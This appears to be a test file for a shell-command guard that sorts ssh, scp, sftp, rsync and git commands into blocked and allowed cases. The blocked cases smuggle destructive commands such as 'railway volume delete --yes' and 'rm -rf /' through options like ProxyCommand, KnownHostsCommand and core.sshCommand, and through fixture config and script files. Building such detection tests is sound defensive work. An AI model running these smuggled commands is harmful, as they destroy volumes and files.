import { attack } from './rows';

attack('an option of ssh and its kin is a command on this machine', {
  held: [
    "ssh -o 'ProxyCommand=railway volume delete --yes' host",
    "ssh -oProxyCommand='railway volume delete --yes' host",
    'ssh -vo "ProxyCommand railway volume delete --yes" host',
    "ssh -o PermitLocalCommand=yes -o LocalCommand='railway volume delete --yes' host true",
    "ssh -o 'KnownHostsCommand=railway volume delete --yes' host true",
    'ssh -F evil.conf host',
    "scp -o 'KnownHostsCommand=rm -rf /' source evil.example:/tmp/source",
    'scp -S ./bad.sh a host:b',
    "sftp -o ProxyCommand='railway volume delete --yes' host",
    "sftp host <<< '!railway volume delete --yes'",
    "rsync -e 'railway volume delete --yes' a host:b",
    `rsync -avze "sh -c 'railway volume delete --yes'" a host:b`,
    "git -c core.sshCommand='railway volume delete --yes' fetch",
    "git bisect run sh -c 'railway volume delete --yes'",
  ],
  free: [
    'ssh -o StrictHostKeyChecking=no host uptime',
    "ssh -o ProxyCommand='ssh -W %h:%p bastion' host ls",
    'ssh -F ok.conf host ls',
    'scp -o ConnectTimeout=5 notes.txt host:b',
    "rsync -avz -e 'ssh -p 22' src/ host:/srv/app/",
    'git bisect run npm test',
  ],
  files: {
    'evil.conf': 'Host *\n  ProxyCommand railway volume delete --yes\n',
    'ok.conf': 'Host *\n  ProxyCommand none\n  User me\n',
    'bad.sh': 'railway volume delete --yes\n',
  },
});
